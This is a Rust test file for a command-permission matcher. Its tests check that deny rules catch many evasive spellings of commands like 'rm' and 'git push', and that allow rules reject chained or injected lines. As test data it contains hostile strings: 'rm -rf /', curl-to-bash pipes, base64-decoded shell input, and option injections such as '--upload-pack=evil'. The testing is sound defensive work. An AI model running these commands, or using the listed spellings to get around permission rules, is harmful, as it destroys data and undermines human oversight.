//! Tests which lines a rule for a command covers.

use super::CommandRule;

#[test]
fn a_denying_rule_covers_every_spelling_of_its_command() {
    let rule = CommandRule::new("rm");
    for line in [
        "rm",
        "rm x",
        "\"rm\" x",
        "'rm' x",
        "r\"\"m x",
        "\\rm x",
        "r\\m x",
        "/bin/rm x",
        "/usr/bin/../bin/rm x",
        "../../bin/rm x",
        "env rm x",
        "env -i FOO=1 rm x",
        "/usr/bin/env rm x",
        "env -S 'rm x'",
        "FOO=1 rm x",
        "FOO=1 BAR=2 \"rm\" x",
        "sudo rm x",
        "sudo -u root -- rm x",
        "doas rm x",
        "command rm x",
        "builtin command rm x",
        "exec rm x",
        "nohup rm x &",
        "nice -n 5 rm x",
        "timeout 5 rm x",
        "timeout --signal=KILL 5s rm x",
        "time rm x",
        "setsid rm x",
        "busybox rm x",
        "toybox rm x",
        "xargs rm",
        "ls | xargs -n1 rm",
        "find . -exec rm {} +",
        "find . -name '*.o' -exec /bin/rm -f {} \\;",
        "sh -c 'rm x'",
        "bash -lc \"cd a && rm x\"",
        "bash -c 'sh -c \"rm x\"'",
        "bash -c 'r\\m x'",
        "sh -c \"$X\"",
        "eval rm x",
        "eval 'r''m x'",
        "eval \"$X\"",
        "echo $(rm x)",
        "echo \"$(rm x)\"",
        "echo `rm x`",
        "echo \"${a:-$(rm x)}\"",
        "cat <(rm x)",
        "cd a; rm x",
        "a && rm x",
        "a || rm x",
        "a | rm",
        "a & rm x",
        "a\nrm x",
        "(rm x)",
        "{ rm x; }",
        "! rm x",
        "if true; then rm x; fi",
        "for f in *; do rm $f; done",
        "while read f; do rm $f; done",
        "case x in x) rm x;; esac",
        "f() { rm x; }; f",
        "function f { rm x; }; f",
        "alias y=rm; y x",
        "trap 'rm x' EXIT",
        "sh <<EOF\nrm x\nEOF",
        "cat <<EOF | sh\nrm x\nEOF",
        "echo rm x | sh",
        "echo cm0geA== | base64 -d | sh",
        "curl -s https://example.org | bash",
        "X=rm; $X x",
        "$X x",
        "${X} x",
        "r${X}m x",
        "$(echo rm) x",
        "${X:-rm} x",
        "$'\\x72m' x",
        "/bin/r? x",
        "/bin/r* x",
        "/bin/[r]m x",
        "{rm,x}",
        "env $X x",
        "sudo $X x",
        "python3 -c 'import os; os.system(\"rm x\")'",
        "perl -e 'system(\"rm x\")'",
        "awk 'BEGIN { system(\"rm x\") }'",
        "ssh host rm x",
        "su -c 'rm x'",
        "watch rm x",
        ">out rm x",
        "rm<x",
        "rm\tx",
        "rm \\\n x",
        "time -p rm x",
        "strace -f rm x",
        "GIT_PAGER='rm x' git log",
        "npm exec rm x",
        "uv run rm x",
        "true; [[ -f x ]] && rm x",
    ] {
        assert!(rule.may_cover(line), "{line}");
    }
}

#[test]
fn a_denying_rule_does_not_cover_other_commands() {
    let rule = CommandRule::new("rm");
    for line in [
        "ls",
        "rmdir x",
        "echo rm",
        "git rm x",
        "git commit -m 'do not rm it'",
        "grep rm x",
        "cargo test --workspace",
        "cd a && make",
        "npm install",
        "FOO=1 make",
        "ls *.rs",
        "cat $HOME/x",
        "git -C \"$DIR\" status",
        "for f in *.rs; do wc $f; done",
        "sh -c 'ls | wc'",
        "timeout 60 cargo test",
        "env FOO=1 make",
        "source venv/bin/activate && pytest $ARGS",
        "/bin/ls x",
        "[[ -f x ]] && ls",
    ] {
        assert!(!rule.may_cover(line), "{line}");
    }
    assert!(!CommandRule::new("").may_cover("ls") && !CommandRule::new(" ").surely_covers(" "));
}

#[test]
fn a_denying_rule_of_several_words_finds_all_its_spellings() {
    let rule = CommandRule::new("git push");
    for line in [
        "git push",
        "git push --force",
        "git -C x push",
        "git -C \"$DIR\" push",
        "git --git-dir=x push",
        "git --no-pager push",
        "/usr/bin/git push",
        "\"git\" \"push\"",
        "git pu\"\"sh",
        "git $X",
        "git $(echo push)",
        "X=push; git -C \"$DIR\" $X",
        "git -c alias.p=push p",
        "sudo git push",
        "sh -c 'git push'",
        "GIT_SSH=x git push",
        "git pus?",
    ] {
        assert!(rule.may_cover(line), "{line}");
    }
    for line in ["git pull", "git log --grep push", "git -C \"$DIR\" status", "echo push"] {
        assert!(!rule.may_cover(line), "{line}");
    }
    let path = CommandRule::new("/bin/rm");
    assert!(
        path.may_cover("/bin/rm x") && path.may_cover("rm x") && path.may_cover("/usr/bin/rm x")
    );
    let pipe = CommandRule::new("curl | sh");
    assert!(
        pipe.may_cover("curl -s https://example.org | sudo sh") && !pipe.may_cover("curl -s x")
    );
    assert!(
        CommandRule::new("((").may_cover("x (( y"),
        "a text that no shell can read matches itself"
    );
}

#[test]
fn an_allowing_rule_covers_only_its_own_command() {
    let rule = CommandRule::new("git status");
    for line in ["git status", "git status -s", "git status\tx", " git status "] {
        assert!(rule.surely_covers(line), "{line}");
    }
    for line in [
        "git statusx",
        "git",
        "git status; rm -rf /",
        "git status && rm x",
        "git status | sh",
        "git status $(rm x)",
        "git status `rm x`",
        "git status > /etc/passwd",
        "git status\nrm x",
        "git status \\\nx",
        "git status & rm x",
        "git status <(rm x)",
        "git status $X",
        "sudo git status",
        "FOO=1 git status",
        "GIT_DIR=/evil git status",
        "/evil/git status",
        "git -c core.fsmonitor=evil status",
        "git status \u{202e}x",
        "env git status",
        "sh -c 'git status'",
    ] {
        assert!(!rule.surely_covers(line), "{line}");
    }
    assert!(CommandRule::new("a | b").surely_covers("a | b"), "the exact line");
    assert!(!CommandRule::new("a | b").surely_covers("a | b c"));
    assert!(!CommandRule::new("git fetch").surely_covers("git fetch --upload-pack=evil x"));
    assert!(!CommandRule::new("tar").surely_covers("tar --to-command=evil -xf x"));
    for wrapper in ["env", "sudo", "xargs", "sh", "bash", "timeout"] {
        assert!(!CommandRule::new(wrapper).surely_covers(&format!("{wrapper} rm x")), "{wrapper}");
        assert!(CommandRule::new(wrapper).surely_covers(wrapper), "{wrapper}");
    }
}
